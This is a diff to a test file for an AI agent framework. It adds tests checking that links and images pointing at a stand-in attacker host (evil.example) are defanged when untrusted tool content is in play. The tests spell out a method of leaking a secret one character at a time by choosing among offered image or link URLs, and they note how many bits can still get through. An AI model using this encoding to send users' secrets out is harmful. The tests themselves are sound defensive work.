@@ -4,12 +4,15 @@ from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
+import pytest
+
 import kore
 from agent.events import Done, Event, TextDelta, ThinkingDelta, ThinkingEnd
 from agent.providers.base import ModelRequest
 from agent.providers.scripted import ScriptedProvider, Step
 from agent.types import Message, Text, Thinking, assistant
 from tests.agent.props import call, calls
+from tests.agent.security.taint.rendered_links import pictures_of, targets_of_links
 
 LINK = "[here](https://evil.example/secret)"
 CODE = "here (`https://evil.example/secret`)"
@@ -27,6 +30,15 @@ def page() -> str:
     return "The address is https://known.example/x"
 
 
+HEX = "0123456789abcdef"
+
+
+@kore.tool(brings=("untrusted",))
+def album() -> str:
+    """Read a page with a picture for every letter of a secret."""
+    return " ".join(f"https://evil.example/{at}-{digit}.png" for at in range(52) for digit in HEX)
+
+
 READ = calls(call("mail"), text="I look.")
 
 
@@ -34,7 +46,7 @@ async def events_of(
     folder: Path, *steps: Step, **more: Any
 ) -> tuple[list[Event], ScriptedProvider]:
     model = ScriptedProvider(steps)
-    agent = kore.Agent(model, tools=[mail, page], workspace=folder, **more)
+    agent = kore.Agent(model, tools=[mail, page, album], workspace=folder, **more)
     events = [event async for event in agent.stream("hi", session="s")]
     async for _ in agent.stream("and then?", session="s"):
         pass
@@ -69,6 +81,41 @@ async def test_links_from_before_stay_and_those_of_strangers(tmp_path: Path) -> 
     first = calls(call("page"), call("mail", "c2"), text=LINK)
     events, _ = await events_of(tmp_path, first, f"See {known}", "Fine.")
     assert result_of(events).text == f"{LINK}\n\nSee {known}"
+
+
+@pytest.mark.parametrize("mark", ["!", ""])
+async def test_choosing_among_offered_pictures_and_links_spells_nothing(
+    tmp_path: Path, mark: str
+) -> None:
+    secret = "0123456789abcdef" * 3 + "0123"
+    addresses = [f"https://evil.example/{at}-{digit}.png" for at, digit in enumerate(secret)]
+    answer = " ".join(f"{mark}[x]({address})" for address in addresses)
+    first = calls(call("album"), call("mail", "c2"))
+    events, _ = await events_of(tmp_path, first, answer, answer)
+    text = result_of(events).text
+    assert text_of(events) == text == result_of(events).messages[-1].text
+    assert not pictures_of(text)
+    # Of 832 addresses two tell almost 20 bits.
+    assert len(targets_of_links(text)) == (0 if mark else 2)
+    assert all(f"`{address}`" in text for address in addresses[2:])
+
+
+async def test_link_that_was_paid_for_stays_in_later_replies(tmp_path: Path) -> None:
+    known = "https://evil.example/0-0.png"
+    first = calls(call("album"), call("mail", "c2"))
+    second = calls(call("page", "c3"), text=f"See {known}")
+    events, _ = await events_of(tmp_path, first, second, f"[a]({known}) {known}", "Fine.")
+    assert targets_of_links(result_of(events).text) == [known] * 3
+
+
+async def test_thoughts_show_no_links_of_strangers_and_pay_nothing(tmp_path: Path) -> None:
+    known = "https://known.example/x"
+    reply = Message("assistant", (Thinking(f"[a]({known})", "signed"), Text(f"[a]({known})")))
+    first = calls(call("page"), call("mail", "c2"))
+    events, _ = await events_of(tmp_path, first, reply, "Fine.")
+    deltas = [event.text for event in events if isinstance(event, ThinkingDelta)]
+    assert "".join(deltas) == f"a (`{known}`)"
+    assert result_of(events).text == f"[a]({known})"
 
 
 async def test_a_block_that_an_earlier_reply_leaves_open_hides_nothing(tmp_path: Path) -> None:
